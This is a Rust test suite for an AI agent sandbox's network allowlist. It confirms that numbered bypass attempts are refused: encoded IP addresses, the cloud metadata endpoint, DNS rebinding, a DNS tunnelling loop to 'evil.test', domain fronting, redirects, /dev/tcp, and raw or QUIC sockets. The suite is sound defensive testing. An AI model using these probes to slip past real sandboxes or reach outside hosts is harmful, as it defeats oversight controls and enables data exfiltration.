//! Attacks 107 to 120 and 128: names, addresses and protocols.

use std::process::Stdio;

use serde_json::json;

use super::{as_agent, configure, python, refusing, run, said};
use crate::agents::{call, text};
use crate::harness::as_each_user;
use crate::outside::with_outside;

#[test]
fn without_network_everything_is_unreachable_at_once() {
    as_each_user(|user| {
        let said = user.python(
            r#"
def connect(family, kind, address): return attempt(lambda: socket.socket(family, kind).connect(address))
print("tcp", connect(socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 443)))
print("udp", connect(socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)))
print("v6", connect(socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700::1111", 443)))
print("raw", attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)))
print("vsock", attempt(lambda: socket.socket(40, socket.SOCK_STREAM)))
"#,
        );
        for line in [
            "tcp ENETUNREACH",
            "udp ENETUNREACH",
            "v6 ENETUNREACH",
            "raw EPERM",
            "vsock EPERM",
        ] {
            assert!(said.contains(line), "107: {line}: {said}");
        }
    });
}

#[test]
fn direct_addresses_are_unreachable_and_told() {
    with_outside(|user, _| {
        configure(user, &["allowed.test"], "");
        let reached = user.outside("curl -s http://1.1.1.1/");
        assert!(reached.starts_with("outside"), "the twin of 108: {reached}");
        let lines = python(
            user,
            r#"
for host in ["1.1.1.1", "16843009", "0x01010101", "0101.01.01.01", "10.0.0.5", "169.254.169.254", "93.184.216.1"]:
    say(host, attempt(connect, host, 80))
say("v6", attempt(connect, "2606:4700::1111", 80))
say("any", attempt(echo, "0.0.0.0", 8080))
say("loopback", attempt(web, "127.0.0.1"))
"#,
        );
        let expected = [
            "1.1.1.1 ENETUNREACH",
            "16843009 ENETUNREACH",
            "0x01010101 ENETUNREACH",
            "0101.01.01.01 ENETUNREACH",
            "10.0.0.5 ENETUNREACH",
            "169.254.169.254 ENETUNREACH",
            "93.184.216.1 ENETUNREACH",
            "v6 ENETUNREACH",
            "any ECONNREFUSED",
            "loopback reset",
        ];
        assert_eq!(lines, expected, "108, 109");
        let result = as_agent(user, "attempt(connect, '1.1.1.1', 53)");
        let (_, rest) = said(&result);
        let told = "SANDBOX: 1 thing was refused (workspace-write, network allowlist)\n  address 1.1.1.1:53  \
                    addresses cannot be reached directly; use a host name";
        assert!(rest.contains(told), "108: {rest}");
    });
}

#[test]
fn services_of_the_machine_are_reached_only_through_host_ports() {
    with_outside(|user, _| {
        configure(user, &["allowed.test"], "");
        let serve = "import http.server; http.server.test(http.server.SimpleHTTPRequestHandler, port=5432, bind='127.0.0.1')";
        let mut server = user.command("/usr/bin/python3");
        server
            .args(["-c", serve])
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        let mut server = server.spawn().expect("a server");
        user.outside("until curl -so /dev/null http://127.0.0.1:5432/; do sleep 0.1; done");
        let program = "say(attempt(connect, '127.0.0.1', 5432) in ['ECONNREFUSED'])";
        assert_eq!(python(user, program), ["True"], "109");
        user.stop();
        configure(user, &["allowed.test"], "host_ports = [5432]");
        let ran = run(
            user,
            "curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:5432/",
        );
        assert_eq!(ran.text, "200", "the twin of 109");
        server.kill().expect("ended");
        server.wait().expect("ended");
    });
}

#[test]
fn names_with_addresses_of_the_machine_or_its_network_are_refused() {
    with_outside(|user, outside| {
        let names = [
            "loop.test",
            "private.test",
            "local.test",
            "metadata.test",
            "own.test",
            "mapped.test",
            "nat64.test",
            "6to4.test",
            "zero.test",
        ];
        let allow: Vec<&str> = names.into_iter().chain(["allowed.test"]).collect();
        configure(user, &allow, "");
        let program = format!(
            "for name in {}: say(name, attempt(web, name))",
            json!(names)
        );
        let result = as_agent(user, &program);
        let (lines, rest) = said(&result);
        let expected: Vec<String> = names.iter().map(|name| format!("{name} reset")).collect();
        assert_eq!(lines, expected, "110");
        assert!(rest.contains("9 things were refused"), "110: {rest}");
        let told = "name   private.test:80  the name resolves to 10.0.0.5, a private address";
        assert!(rest.contains(told), "110: {rest}");
        assert!(
            rest.contains("name   own.test:80  the name resolves to 93.184.216.1"),
            "110: {rest}"
        );
        assert!(!rest.contains("needs="), "no permission helps: {rest}");
        assert_eq!(
            python(user, "say(web('allowed.test'))"),
            ["outside / allowed.test"]
        );
        assert!(outside.looked_up().contains(&"allowed.test".to_owned()));
    });
}

#[test]
fn name_is_looked_up_once_for_a_connection_and_the_checked_address_is_dialled() {
    with_outside(|user, outside| {
        configure(user, &["rebind.test"], "");
        let lines = python(user, "for _ in range(2): say(attempt(web, 'rebind.test'))");
        assert_eq!(lines, ["outside / rebind.test", "reset"], "111");
        let queries = outside.log();
        let asked = queries
            .iter()
            .filter(|line| *line == "rebind.test 1")
            .count();
        assert_eq!(asked, 2, "111: {queries:?}");
    });
}

#[test]
fn programs_reach_exactly_the_names_that_are_allowed() {
    with_outside(|user, outside| {
        configure(user, &["allowed.test", "*.below.test"], "");
        let program = r#"
for name in ["allowed.test", "ALLOWED.test", "allowed.test.", "a.below.test", "a.b.below.test"]: say(attempt(web, name).split(" ")[0])
for name in ["allowed.test.evil.test", "evilallowed.test", "below.test", "xn--allwed-4ua.test"]: say(attempt(web, name))
for name in ["printer", "db.internal", "a.onion"]: say(attempt(web, name))
"#;
        let lines = refusing(user, 4, || python(user, program));
        let mut expected = vec!["outside"; 5];
        expected.extend(["reset"; 4]);
        expected.extend(["no such name"; 3]);
        assert_eq!(lines, expected, "112, 113");
        let names = outside.looked_up();
        assert_eq!(
            names,
            ["a.b.below.test", "a.below.test", "allowed.test"],
            "112, 114"
        );
    });
}

#[test]
fn no_query_leaves_whatever_is_asked() {
    with_outside(|user, outside| {
        configure(user, &["allowed.test"], "");
        let lines = python(
            user,
            r#"
def query(name, kind):
    body = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + body + struct.pack(">HH", kind, 1), ("127.0.0.1", 53))
    reply = s.recv(4096)
    return reply[3] & 15, struct.unpack(">H", reply[6:8])[0]
for kind in [1, 28, 16, 10, 255]: say(query("allowed.test", kind))
for number in range(2000): query("d" * 60 + f".n{number}.evil.test", 16)
say("done")
"#,
        );
        assert_eq!(
            lines.first().map(String::as_str),
            Some("(0, 1)"),
            "114: {lines:?}"
        );
        assert_eq!(lines.last().map(String::as_str), Some("done"), "114");
        assert!(
            lines[1..5].iter().all(|line| line.ends_with(", 0)")),
            "114: {lines:?}"
        );
        // A name that is allowed is looked up for its answer.
        assert_eq!(outside.looked_up(), ["allowed.test"], "114");
    });
}

#[test]
fn allowed_name_that_does_not_exist_is_a_name_error_and_told() {
    with_outside(|user, _| {
        configure(user, &["gone.allowed.test", "*.allowed.test"], "");
        let result = as_agent(user, "say(attempt(web, 'gone.allowed.test'))");
        let (lines, rest) = said(&result);
        assert_eq!(lines, ["no such name"]);
        assert!(
            rest.contains("SANDBOX: network: gone.allowed.test the look-up failed"),
            "{rest}"
        );
    });
}

#[test]
fn other_resolvers_cannot_be_asked() {
    with_outside(|user, _| {
        configure(user, &["allowed.test"], "");
        let program = r#"
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
say(attempt(lambda: udp.sendto(b"x", ("93.184.216.53", 53))))
say(attempt(connect, "93.184.216.53", 53))
say(attempt(tls, "resolver.test", "resolver.test"))
say(attempt(tls, "allowed.test", "allowed.test"))
"#;
        let lines = refusing(user, 1, || python(user, program));
        let expected = [
            "ENETUNREACH",
            "ENETUNREACH",
            "reset",
            "outside / allowed.test",
        ];
        assert_eq!(lines, expected, "115");
    });
}

#[test]
fn tls_must_name_the_server_and_a_host_header_may_differ() {
    with_outside(|user, _| {
        configure(user, &["allowed.test"], "");
        let lines = python(
            user,
            r#"
say(attempt(tls, "allowed.test", "allowed.test"))
say(attempt(tls, "allowed.test", "evil.test"))
say(attempt(tls, "allowed.test", None))
say(attempt(echo, "allowed.test", 443, b"GET / HTTP/1.1\r\n\r\n"))
say(attempt(tls, "allowed.test", "allowed.test", "fronted.test"))
"#,
        );
        let expected = [
            "outside / allowed.test",
            "reset",
            "reset",
            "reset",
            "outside / fronted.test",
        ];
        assert_eq!(lines, expected, "116, 117");
    });
}

#[test]
fn redirect_leads_to_a_name_that_is_judged_too() {
    with_outside(|user, _| {
        configure(user, &["allowed.test", "other.test"], "");
        let script = "curl -sL http://allowed.test/to/other.test; curl -sL -m 20 http://allowed.test/to/evil.test; echo $?";
        let ran = refusing(user, 1, || run(user, script));
        assert!(
            ran.text.starts_with("outside / other.test\n"),
            "118: {ran:?}"
        );
        let lines: Vec<&str> = ran.text.lines().collect();
        assert!(lines[1] != "0", "118: {ran:?}");
        assert!(lines[2].starts_with("SANDBOX: 1 thing was"), "118: {ran:?}");
    });
}

#[test]
fn ordinary_programs_reach_allowed_names_without_proxy_variables() {
    with_outside(|user, _| {
        configure(
            user,
            &["allowed.test", "git@allowed.test", "allowed.test:8443"],
            "",
        );
        let ran = run(
            user,
            "curl -sk https://allowed.test/curl; env | grep -i proxy; getent ahostsv4 allowed.test | head -1",
        );
        assert!(
            ran.text.starts_with("outside /curl allowed.test\n198.18."),
            "119: {ran:?}"
        );
        let lines = python(
            user,
            r#"
say(echo("allowed.test", 22))
say(echo("allowed.test", 8443))
import urllib.request
say(urllib.request.urlopen("http://allowed.test/python").read().decode().strip())
"#,
        );
        assert_eq!(
            lines,
            ["HELLO", "HELLO", "outside /python allowed.test"],
            "119"
        );
        if std::path::Path::new("/usr/bin/node").exists() {
            let script =
                "require('http').get('http://allowed.test/node', r => r.pipe(process.stdout))";
            let ran = run(user, &format!("/usr/bin/node -e \"{script}\""));
            assert_eq!(ran.text, "outside /node allowed.test\n", "119: {ran:?}");
        }
        let ran = run(user, "git ls-remote http://allowed.test/repo 2>&1; true");
        assert!(!ran.text.contains("resolve host"), "119: {ran:?}");
    });
}

#[test]
fn other_protocols_do_not_go_round_the_gate() {
    with_outside(|user, _| {
        configure(user, &["allowed.test"], "");
        let lines = python(
            user,
            r#"
address = socket.gethostbyname("allowed.test")
say(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)))
say(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)))
say(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(b"x", ("8.8.8.8", 53))))
def quic():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((address, 443))
    s.send(b"x")
    return s.recv(10)
say(attempt(quic))
def fast_open(target):
    s = socket.socket()
    s.settimeout(None)
    s.sendto(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", socket.MSG_FASTOPEN, (target, 80))
    return s.recv(100)[:8].decode()
say(attempt(fast_open, "1.1.1.1"))
say(attempt(fast_open, address))
"#,
        );
        let expected = [
            "EPERM",
            "EPERM",
            "ENETUNREACH",
            "ECONNREFUSED",
            "ENETUNREACH",
            "HTTP/1.1",
        ];
        assert_eq!(lines, expected, "120");
    });
}

#[test]
fn udp_that_is_sent_outside_is_told() {
    with_outside(|user, _| {
        configure(user, &["allowed.test"], "");
        let program = r#"
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
own.bind(("127.0.0.1", 0))
say(attempt(lambda: udp.sendto(b"x", own.getsockname())))
for _ in range(2): attempt(lambda: udp.sendto(b"x", ("8.8.8.8", 123)))
"#;
        let result = as_agent(user, program);
        let (lines, rest) = said(&result);
        assert_eq!(lines, ["1"], "{result}");
        for part in [
            "SANDBOX: 2 things were refused (workspace-write, network allowlist)",
            "  udp    8.8.8.8:123  UDP cannot leave the sandbox; use TCP (2 times)",
            "needs={\"sandbox\":\"off\"}",
        ] {
            assert!(rest.contains(part), "{part}: {rest}");
        }
    });
}

#[test]
fn needed_names_that_a_person_grants_are_the_only_ones_that_open() {
    with_outside(|user, _| {
        user.write(
            "state/config.toml",
            "[sandbox]\nmode = \"workspace-write\"\n",
        );
        let command = "curl -s -m 5 http://granted.test/; curl -s -m 5 http://other.test/; true";
        let wanted = json!({
            "command": command, "needs": {"network": ["granted.test"]}, "justification": "fetch the list",
        });
        let held = call(user, "shell", &wanted);
        assert!(text(&held).contains("connect to granted.test"), "{held}");
        let id = |name: &str| held["result"][name].as_str().expect("an id").to_owned();
        let answered = user.abide(&["answer", &id("question_id"), "yes"]);
        assert_eq!(answered.code, 0, "{answered:?}");
        let ended = call(user, "shell", &json!({"session_id": id("session_id")}));
        let said = text(&ended);
        assert!(said.contains("outside / granted.test"), "{said}");
        assert!(!said.contains("outside / other.test"), "{said}");
        let wrong = json!({"command": "true", "needs": {"network": ["*"]}, "justification": "all"});
        assert!(text(&call(user, "shell", &wrong)).contains("would allow every name"));
    });
}

#[test]
fn network_on_keeps_the_port_of_abide_closed_without_its_token() {
    as_each_user(|user| {
        let port = crate::network::ports::free_port();
        let config = format!("http = \"127.0.0.1:{port}\"\n");
        user.write("state/config.toml", &config);
        let options = ["--sandbox", "workspace-write", "--network", "on"];
        let script = format!(
            "until curl -so /dev/null http://127.0.0.1:{port}/; do :; done; \
             curl -s -o /dev/null -w '%{{http_code}}' http://127.0.0.1:{port}/v1/sessions"
        );
        let ran = user.run_in(&options, &script);
        assert_eq!(ran.text, "401", "128");
    });
}

#[test]
fn private_address_is_reached_where_the_settings_permit_it() {
    with_outside(|user, _| {
        let names = "private = [\"private.test\", \"loop.test\"]";
        configure(user, &["private.test", "loop.test"], names);
        let lines = python(
            user,
            "say(attempt(web, 'private.test'))\nsay(attempt(web, 'loop.test'))",
        );
        // The loopback of the machine is never reached by a name.
        assert_eq!(lines, ["outside / private.test", "reset"], "110");
    });
}

#[test]
fn running_terminal_is_told_of_refused_names() {
    with_outside(|user, _| {
        configure(user, &["allowed.test"], "");
        let start =
            json!({"action": "start", "command": "curl -s http://evil.internal; exec bash --norc"});
        let started = call(user, "terminal_session", &start);
        let session = started["result"]["session_id"].as_str().expect("an id");
        user.outside(
            "while ! grep -q evil.internal $ROOT/state/sessions/*/refused; do sleep 0.05; done",
        );
        let read = json!({"action": "read_output", "session_id": session, "since": "0"});
        let told = [started.clone(), call(user, "terminal_session", &read)].map(|said| text(&said));
        assert_eq!(
            told.concat().matches("name   evil.internal").count(),
            1,
            "{told:?}"
        );
        call(
            user,
            "terminal_session",
            &json!({"action": "kill", "session_id": session}),
        );
    });
}

#[test]
fn connection_at_a_port_that_is_not_allowed_is_told() {
    with_outside(|user, _| {
        configure(user, &["allowed.test"], "");
        let command = "for i in 1 2; do (exec 3<> /dev/tcp/allowed.test/8443); done; true";
        let said = text(&call(user, "shell", &json!({"command": command})));
        for part in [
            "SANDBOX: 2 things were refused (workspace-write, network allowlist)",
            "name   allowed.test:8443  this port is not allowed (2 times)",
            "allowed.test:8443\\\"]",
        ] {
            assert!(said.contains(part), "{part}: {said}");
        }
    });
}
